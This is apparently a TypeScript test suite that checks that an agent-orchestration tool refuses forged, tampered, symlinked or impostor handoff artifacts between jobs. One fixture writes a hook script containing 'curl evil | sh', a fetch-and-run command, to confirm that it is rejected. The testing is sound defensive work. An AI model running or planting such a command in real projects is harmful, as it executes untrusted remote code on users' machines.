import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { planStep, runStep } from '../../src/loop/steps.js';
import { readCrewState } from '../../src/dispatch/leases/lease.js';
import { fetchCurriculum } from '../../src/curriculum/fetch.js';
import { markHandoff, writeHandoff } from '../../src/handoff/handoff.js';
import { importHandoffs } from '../../src/handoff/import.js';
import { handoffArtifactName } from '../../src/handoff/name.js';
import { silentLogger } from '../../src/log.js';
import { StateLayout } from '../../src/state/layout.js';
import { crewJobHandoff, launcher, makeSchool, writeIssues, type School } from '../regression/helpers.js';
import { rewriteHandoff } from '../support/handoff.js';

/**
 * Safe outputs: a crew job hands on what it appended; a job that runs no student code imports it
 * after validation. The grade job's state is the plan's (restored), never the crew job's copy.
 */
let s: School | undefined;
afterEach(() => {
  s?.cleanup();
  s = undefined;
});

async function crewJob(): Promise<{ restored: StateLayout; out: string; root: string }> {
  s = makeSchool({
    daemons: [
      { id: 'd1', worktrees: 2 },
      { id: 'd2', worktrees: 1 },
    ],
  });
  s.config.dispatch.minFreeDiskGiB = 0;
  s.config.dispatch.maxCrews = 3;
  const source = writeIssues(
    s,
    [1, 2, 3].map((n) => ({ number: n, title: `Issue ${n}`, body: '```school\nagent: editor\n```\n' })),
  );
  await fetchCurriculum({ layout: s.layout, config: s.config, source, logger: silentLogger });
  await planStep({ config: s.config, layout: s.layout, logger: silentLogger, beat: ['d1', 'd2'] });
  // What the grade job restores: the state as the plan job saved it.
  const restoredDir = join(s.root, 'grade-job-state');
  cpSync(s.layout.root, restoredDir, { recursive: true });
  const { root, out } = await crewJobHandoff(s);
  return { restored: new StateLayout(restoredDir), out, root };
}

describe('handoff of a crew job', () => {
  it("imports the daemon's finished crews, grading jobs, spend and bookbags; a replay adds nothing", async () => {
    const { restored, root } = await crewJob();
    const d1 = Object.values(readCrewState(s!.layout).registry.crews).filter((c) => c.daemon === 'd1');
    expect(d1.length).toBe(2);
    expect(Object.values(readCrewState(restored).registry.crews).every((c) => c.status === 'planned')).toBe(
      true,
    );

    const r = await importHandoffs(restored, root, { config: s!.config, logger: silentLogger });
    expect(r.refused).toEqual([]);
    const after = readCrewState(restored).registry.crews;
    for (const c of d1) {
      expect(after[c.crewId]!.status).toBe('finished');
      expect(existsSync(join(restored.bookbag(c.crewId), 'done.flag'))).toBe(true);
    }
    expect(readFileSync(restored.file('grading'), 'utf8').match(/"job\.enqueued"/g)!.length).toBe(2);
    const again = await importHandoffs(restored, root, { config: s!.config, logger: silentLogger });
    expect(again.dirs[0]!.accepted).toBe(0);
  }, 120_000);

  it('refuses forged and tampered content and imports the rest', async () => {
    const { restored, out, root } = await crewJob();
    const other = Object.values(readCrewState(s!.layout).registry.crews).find((c) => c.daemon === 'd2')!;
    rewriteHandoff(out, 'crews.jsonl', (lines) => [
      ...lines,
      // Another daemon's crew, declared finished by this job.
      JSON.stringify({
        key: `finished:${other.crewId}`,
        type: 'crew.finished',
        at: new Date().toISOString(),
        data: {
          crewId: other.crewId,
          issueNumber: other.issueNumber,
          outcome: 'succeeded',
          reason: 'forged',
        },
      }),
      'not json',
    ]);
    rewriteHandoff(out, 'grading.jsonl', (lines) => [
      ...lines,
      JSON.stringify({
        key: 'graded:forged',
        type: 'job.graded',
        at: new Date().toISOString(),
        data: { crewId: other.crewId, accepted: true },
      }),
    ]);
    rewriteHandoff(out, 'school.jsonl', (lines) => [
      ...lines,
      JSON.stringify({
        key: 'pause-cleared:x',
        type: 'school.pause-cleared',
        at: new Date().toISOString(),
        data: { reason: 'forged' },
      }),
      JSON.stringify({
        key: 'heartbeat:d2:1:x',
        type: 'roster.heartbeat',
        at: new Date().toISOString(),
        data: { daemon: 'd2' },
      }),
    ]);
    const r = await importHandoffs(restored, root, { config: s!.config, logger: silentLogger });
    const reasons = r.refused.map((x) => `${x.what}: ${x.reason}`).join('\n');
    expect(reasons).toMatch(new RegExp(`crew ${other.crewId} is not planned for daemon d1`));
    expect(reasons).toMatch(/not JSON/);
    expect(reasons).toMatch(/job\.graded may not come from a crew job/);
    expect(reasons).toMatch(/school\.pause-cleared may not come from a crew job/);
    expect(reasons).toMatch(/heartbeat of another daemon/);
    expect(readCrewState(restored).registry.crews[other.crewId]!.status).toBe('planned');
    // The legitimate part still arrived.
    expect(
      Object.values(readCrewState(restored).registry.crews).filter((c) => c.status === 'finished').length,
    ).toBe(2);
  }, 120_000);

  it('refuses a file that does not match its digest, and a handoff that claims another daemon', async () => {
    const { restored, out, root } = await crewJob();
    writeFileSync(
      join(out, 'events', 'crews.jsonl'),
      readFileSync(join(out, 'events', 'crews.jsonl'), 'utf8') + '{}\n',
    );
    const impostor = join(root, 'school-handoff-1-1-1-d2');
    mkdirSync(impostor, { recursive: true });
    cpSync(join(out, 'handoff.json'), join(impostor, 'handoff.json'));
    const r = await importHandoffs(restored, root, { config: s!.config, logger: silentLogger });
    expect(r.refused).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ what: 'crews.jsonl', reason: expect.stringMatching(/digest/) }),
        expect.objectContaining({
          dir: 'school-handoff-1-1-1-d2',
          reason: expect.stringMatching(/claims daemon d1/),
        }),
      ]),
    );
    expect(Object.values(readCrewState(restored).registry.crews).every((c) => c.status === 'planned')).toBe(
      true,
    );
  }, 120_000);

  it('never reads a handoff file through a link to a file of the host', async () => {
    const { restored, out, root } = await crewJob();
    // Host files with exactly the bytes handoff.json vouches for: only the link gives them away.
    const host = join(s!.root, 'host');
    mkdirSync(host, { recursive: true });
    for (const f of ['crews.jsonl', 'grading.jsonl']) {
      cpSync(join(out, 'events', f), join(host, f));
      rmSync(join(out, 'events', f));
      symlinkSync(join(host, f), join(out, 'events', f));
    }
    const linked = join(root, 'school-handoff-1-1-1-d2');
    mkdirSync(linked, { recursive: true });
    writeFileSync(join(host, 'handoff.json'), JSON.stringify({ schema: 1, daemon: 'd2', files: {} }));
    symlinkSync(join(host, 'handoff.json'), join(linked, 'handoff.json'));
    const r = await importHandoffs(restored, root, { config: s!.config, logger: silentLogger });
    expect(r.refused).toEqual(
      expect.arrayContaining([
        {
          dir: 'school-handoff-1-1-1-d1',
          what: 'crews.jsonl',
          reason: 'events/crews.jsonl is a symbolic link; only a plain file is read',
        },
        {
          dir: 'school-handoff-1-1-1-d1',
          what: 'grading.jsonl',
          reason: 'events/grading.jsonl is a symbolic link; only a plain file is read',
        },
        {
          dir: 'school-handoff-1-1-1-d2',
          what: 'handoff.json',
          reason: 'unreadable: handoff.json is a symbolic link; only a plain file is read',
        },
      ]),
    );
    expect(Object.values(readCrewState(restored).registry.crews).every((c) => c.status === 'planned')).toBe(
      true,
    );
  }, 120_000);
});

describe('handoff of a roster job', () => {
  it("brings only its own daemon's heartbeat", async () => {
    const { restored, out, root } = await crewJob();
    const roster = join(root, 'school-roster-1-1-1-d1');
    cpSync(out, roster, { recursive: true });
    rmSync(out, { recursive: true, force: true });
    const r = await importHandoffs(restored, root, { config: s!.config, logger: silentLogger });
    expect(r.refused.some((x) => /crew\.finished may not come from a roster job/.test(x.reason))).toBe(true);
    expect(r.refused.some((x) => x.what.startsWith('bookbag'))).toBe(false);
    expect(Object.values(readCrewState(restored).registry.crews).every((c) => c.status === 'planned')).toBe(
      true,
    );
    expect(readFileSync(restored.file('school'), 'utf8')).toMatch(/"roster\.heartbeat".*"daemon":"d1"/);
  }, 120_000);
});

describe('handoff names', () => {
  /** Both daemons run their crews; each hands on under the workflow's artifact name. */
  async function twoDaemons(): Promise<{ restored: string; root: string; crews: Record<string, string[]> }> {
    s = makeSchool({
      daemons: [
        { id: 'gpu', worktrees: 1 },
        { id: 'big-gpu', worktrees: 1 },
      ],
    });
    s.config.dispatch.minFreeDiskGiB = 0;
    s.config.dispatch.maxCrews = 2;
    const source = writeIssues(
      s,
      [1, 2].map((n) => ({ number: n, title: `Issue ${n}`, body: '```school\nagent: editor\n```\n' })),
    );
    await fetchCurriculum({ layout: s.layout, config: s.config, source, logger: silentLogger });
    await planStep({ config: s.config, layout: s.layout, logger: silentLogger, beat: ['gpu', 'big-gpu'] });
    const restored = join(s.root, 'grade-job-state');
    cpSync(s.layout.root, restored, { recursive: true });
    const root = join(s.root, 'handoffs');
    const crews: Record<string, string[]> = {};
    for (const daemon of ['gpu', 'big-gpu']) {
      const out = join(
        root,
        handoffArtifactName({ kind: 'handoff', runId: '7', attempt: '1', jobAttempt: '1', daemon }),
      );
      const marks = markHandoff(s.layout);
      await runStep({
        config: s.config,
        layout: s.layout,
        daemon,
        logger: silentLogger,
        launch: { launcher: await launcher() },
        bookbagsPath: join(out, 'bookbags'),
      });
      writeHandoff(s.layout, marks, out, daemon);
      crews[daemon] = Object.values(readCrewState(s.layout).registry.crews)
        .filter((c) => c.daemon === daemon)
        .map((c) => c.crewId);
    }
    return { restored, root, crews };
  }

  it('daemons gpu and big-gpu: each artifact is imported as its own daemon, never the other', async () => {
    const { restored, root, crews } = await twoDaemons();
    expect(crews.gpu).toHaveLength(1);
    expect(crews['big-gpu']).toHaveLength(1);

    // big-gpu's runner hands on gpu's handoff as its own artifact: its name ends in "-gpu" too.
    const forged = join(s!.root, 'forged');
    cpSync(join(root, 'school-handoff-7-1-1-gpu'), join(forged, 'school-handoff-7-1-1-big-gpu'), {
      recursive: true,
    });
    const attacked = new StateLayout(join(s!.root, 'attacked-state'));
    cpSync(restored, attacked.root, { recursive: true });
    const a = await importHandoffs(attacked, forged, { config: s!.config, logger: silentLogger });
    expect(a.refused).toEqual([
      expect.objectContaining({
        dir: 'school-handoff-7-1-1-big-gpu',
        reason: 'claims daemon gpu but was handed on as school-handoff-7-1-1-big-gpu',
      }),
    ]);
    expect(readCrewState(attacked).registry.crews[crews.gpu![0]!]!.status).toBe('planned');

    // The real artifacts: each imported as the daemon its name ends with, in full.
    const layout = new StateLayout(restored);
    const r = await importHandoffs(layout, root, { config: s!.config, logger: silentLogger });
    expect(r.refused).toEqual([]);
    expect(r.dirs.map((d) => [d.dir, d.daemon, d.bookbags])).toEqual([
      ['school-handoff-7-1-1-big-gpu', 'big-gpu', 1],
      ['school-handoff-7-1-1-gpu', 'gpu', 1],
    ]);
    const after = readCrewState(layout).registry.crews;
    for (const id of [...crews.gpu!, ...crews['big-gpu']!]) expect(after[id]!.status).toBe('finished');
  }, 120_000);

  it('refuses a directory whose name is not an artifact name of the loop', async () => {
    const { restored, root } = await crewJob();
    const bare = join(root, 'd1');
    cpSync(join(root, 'school-handoff-1-1-1-d1'), bare, { recursive: true });
    rmSync(join(root, 'school-handoff-1-1-1-d1'), { recursive: true, force: true });
    const r = await importHandoffs(restored, root, { config: s!.config, logger: silentLogger });
    expect(r.refused).toEqual([
      expect.objectContaining({ dir: 'd1', reason: expect.stringMatching(/is not a handoff artifact name/) }),
    ]);
  }, 120_000);

  it('takes a bookbag only as known, bounded files, and a session store only as its record vouches', async () => {
    const { restored, out, root } = await crewJob();
    const [a, b] = Object.values(readCrewState(s!.layout).registry.crews)
      .filter((c) => c.daemon === 'd1')
      .map((c) => c.crewId);
    // A file no bookbag has: the bookbag is refused whole.
    writeFileSync(join(out, 'bookbags', a!, 'hook.sh'), 'curl evil | sh\n');
    // A session store its record does not name (a command agent keeps none): left out, the rest taken.
    writeFileSync(join(out, 'bookbags', b!, 'session-store.json'), '{"schema":1}');
    const r = await importHandoffs(restored, root, { config: s!.config, logger: silentLogger });
    expect(r.refused).toHaveLength(2);
    expect(r.refused).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ what: `bookbag ${a}`, reason: 'hook.sh is not a bookbag file' }),
        expect.objectContaining({
          what: `bookbag ${b} session-store.json`,
          reason: expect.stringMatching(/kept no session store/),
        }),
      ]),
    );
    expect(existsSync(join(restored.bookbag(a!), 'done.flag'))).toBe(false);
    expect(existsSync(join(restored.bookbag(b!), 'done.flag'))).toBe(true);
    expect(existsSync(join(restored.bookbag(b!), 'session-store.json'))).toBe(false);
  }, 120_000);
});

describe('a repair the crew job planned for its own failed crew', () => {
  it('is imported with both crews; a crew job may plan no other crew, nor a second repair', async () => {
    s = makeSchool({ daemons: [{ id: 'd1', worktrees: 1 }] });
    s.config.dispatch.minFreeDiskGiB = 0;
    const source = writeIssues(s, [
      { number: 1, title: 'Issue 1', body: '```school\nagent: failer\n```\n' },
      { number: 2, title: 'Issue 2', body: '```school\nagent: editor\n```\n' },
    ]);
    await fetchCurriculum({ layout: s.layout, config: s.config, source, logger: silentLogger });
    await planStep({
      config: s.config,
      layout: s.layout,
      logger: silentLogger,
      beat: ['d1'],
      mode: { standby: true },
    });
    const restoredDir = join(s.root, 'grade-job-state');
    cpSync(s.layout.root, restoredDir, { recursive: true });
    const { root, out, run } = await crewJobHandoff(s, { refill: false, repairInJob: true });
    expect(run.repairs).toHaveLength(1);
    const crews = Object.values(readCrewState(s.layout).registry.crews);
    const [first, repair] = crews.filter((c) => c.issueNumber === 1).sort((a, b) => a.attempt - b.attempt);
    const done = crews.find((c) => c.issueNumber === 2)!;

    // Forgeries beside the real repair: a repair for a crew that succeeded, a crew with no failed
    // crew behind it, and a second repair of the first failure.
    const planned = (crewId: string, issue: number, data: Record<string, unknown>) =>
      JSON.stringify({
        key: `planned:${crewId}`,
        type: 'crew.planned',
        at: new Date().toISOString(),
        data: {
          crewId,
          issueNumber: issue,
          daemon: 'd1',
          agent: 'editor',
          weight: 'standard',
          fences: [],
          repair: true,
          attempt: 2,
          queued: true,
          ...data,
        },
      });
    rewriteHandoff(out, 'crews.jsonl', (lines) => [
      ...lines,
      planned('c2-0000beef', 2, { repairOf: done.crewId }),
      planned('c2-0000cafe', 2, {}),
      planned('c1-0000f00d', 1, { repairOf: first!.crewId, agent: 'failer' }),
    ]);
    const r = await importHandoffs(new StateLayout(restoredDir), root, {
      config: s.config,
      logger: silentLogger,
    });
    const reasons = r.refused.map((x) => `${x.what}: ${x.reason}`);
    expect(reasons).toHaveLength(3);
    expect(reasons.join('\n')).toMatch(/c2-0000beef.*issue #2 needs no repair/);
    expect(reasons.join('\n')).toMatch(/c2-0000cafe.*plans only the repair of its own failed crew/);
    expect(reasons.join('\n')).toMatch(/c1-0000f00d.*issue #1 needs no repair/);
    const after = readCrewState(new StateLayout(restoredDir)).registry.crews;
    expect(after[repair!.crewId]).toMatchObject({
      attempt: 2,
      repair: true,
      status: 'finished',
      outcome: 'failed',
    });
    expect(after[first!.crewId]!.outcome).toBe('failed');
    expect(readFileSync(join(restoredDir, 'grading.jsonl'), 'utf8').match(/"job\.enqueued"/g)!.length).toBe(
      3,
    );
    // A re-run grade imports the same handoff again: nothing new, and only the forgeries refused.
    const again = await importHandoffs(new StateLayout(restoredDir), root, {
      config: s.config,
      logger: silentLogger,
    });
    expect(again.dirs[0]!.accepted).toBe(0);
    expect(again.refused).toHaveLength(3);
  }, 120_000);
});
